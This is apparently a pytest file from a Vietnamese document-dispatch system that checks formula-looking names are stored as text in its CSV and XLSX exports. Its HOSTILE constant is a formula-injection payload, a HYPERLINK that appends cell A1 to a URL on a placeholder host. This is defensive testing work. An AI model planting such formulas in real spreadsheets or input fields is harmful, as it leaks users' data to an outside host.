"""How typed text is stored and exported: a name typed as a formula stays text in every
spreadsheet Dispatch writes (the leaders' CSV and XLSX, the register, the evidence package's
CSV, the directory export), and the directory export still imports back as it was."""

from __future__ import annotations

import csv
import dataclasses
import io
import zipfile

import pytest
from openpyxl import Workbook, load_workbook

from dispatch.clock import parse_moment
from dispatch.directory import offices
from dispatch.extensions import db
from dispatch.models import DispatchRecipient, Organisation
from dispatch.receipts import acknowledgements
from dispatch.reporting import dashboard, evidence, exports, register
from dispatch.text import (
    FORMULA_START,
    from_spreadsheet_text,
    spreadsheet_text,
    text_cells_only,
)

HOSTILE = '=HYPERLINK("http://example.invalid/?"&A1,"Bấm vào đây")'
CONFIRMED_AT = parse_moment("2021-11-15T10:00:00+07:00")
SEEN_AT = parse_moment("2021-11-16T09:00:00+07:00")


@pytest.mark.parametrize("start", FORMULA_START)
def test_a_value_that_starts_like_a_formula_is_quoted_and_read_back(start):
    value = f"{start}1+2"
    assert spreadsheet_text(value) == "'" + value
    assert from_spreadsheet_text(spreadsheet_text(value)) == value


@pytest.mark.parametrize("value", ["Nguyễn Văn Bình", "15/11/2021 08:30", "'quoted", "", "a=b"])
def test_ordinary_text_is_left_as_it_is(value):
    assert spreadsheet_text(value) == value
    assert from_spreadsheet_text(value) == value


def test_text_cells_only_stores_a_formula_looking_string_as_text():
    book = Workbook()
    sheet = book.active
    sheet.append([HOSTILE, 3])
    assert sheet["A1"].data_type == "f"  # what openpyxl does with such a string by itself
    text_cells_only(sheet)
    out = io.BytesIO()
    book.save(out)
    cell = load_workbook(io.BytesIO(out.getvalue()))["Sheet"]["A1"]
    assert cell.data_type == "s" and cell.value == HOSTILE
    assert b"<f>" not in zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml")


@pytest.fixture()
def confirmed_by_a_formula(issued_dispatch):
    """An issued dispatch whose Hà Nội office confirmed with a name typed as a formula."""
    dispatch = issued_dispatch()
    hanoi = (
        db.session.query(DispatchRecipient)
        .filter_by(dispatch_id=dispatch.id, province_code="01")
        .one()
    )
    acknowledgements.acknowledge(
        hanoi, HOSTILE, "@SUM(1,2)", "-2+3", ip=None, user_agent=None, at=CONFIRMED_AT
    )
    db.session.commit()
    return dispatch


def _rows_of_csv(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_the_leaders_csv_and_xlsx_keep_a_formula_name_as_text(confirmed_by_a_formula):
    board = dashboard.dispatch_dashboard(confirmed_by_a_formula.id, at=SEEN_AT)

    rows = _rows_of_csv(exports.to_csv(board))
    assert [cell for row in rows for cell in row if HOSTILE in cell] == ["'" + HOSTILE]

    data = exports.to_xlsx(board)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert all(b"<f>" not in archive.read(name) for name in sheets)
    cells = [c for row in load_workbook(io.BytesIO(data)).active.iter_rows() for c in row]
    [named] = [c for c in cells if c.value == HOSTILE]
    assert named.data_type == "s"


def test_the_evidence_packages_confirmations_csv_quotes_what_was_typed(confirmed_by_a_formula):
    package = evidence.build_evidence(confirmed_by_a_formula.id, at=SEEN_AT)
    with zipfile.ZipFile(io.BytesIO(package.data)) as archive:
        [name] = [n for n in archive.namelist() if n.endswith("/confirmations.csv")]
        rows = _rows_of_csv(archive.read(name))
    typed = [cell for row in rows for cell in row if cell.lstrip("'")[:1] in ("=", "@", "-")]
    assert sorted(typed) == sorted(["'" + HOSTILE, "'@SUM(1,2)", "'-2+3"])


def test_the_register_xlsx_has_no_formula(issued_dispatch):
    issued_dispatch()
    book = register.build_register(2021)
    # The filing note comes from the letter's "Lưu: …" line, as the clerk typed it.
    [row] = book.rows
    book = dataclasses.replace(book, rows=[dataclasses.replace(row, filed_by="=1+1")])
    data = register.register_xlsx(book, at=SEEN_AT)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    cells = [c for r in load_workbook(io.BytesIO(data)).active.iter_rows() for c in r]
    [typed] = [c for c in cells if c.value == "=1+1"]
    assert typed.data_type == "s"


def test_the_directory_export_quotes_formulas_and_imports_back_unchanged(seeded):
    hanoi = db.session.query(Organisation).filter_by(province_code="01").one()
    hanoi.name = "-Sở Thông tin và Truyền thông thành phố Hà Nội"
    db.session.commit()

    exported = offices.export_csv()
    [row] = [r for r in csv.reader(io.StringIO(exported.removeprefix("\ufeff"))) if r[0] == "01"]
    assert row[4] == "'-Sở Thông tin và Truyền thông thành phố Hà Nội"

    hanoi.name = "Sở Thông tin và Truyền thông thành phố Hà Nội"
    db.session.commit()
    offices.import_csv(exported, actor="quantri@thh.example", at=SEEN_AT)
    db.session.commit()
    db.session.expire_all()
    again = db.session.query(Organisation).filter_by(province_code="01").one()
    assert again.name == "-Sở Thông tin và Truyền thông thành phố Hà Nội"
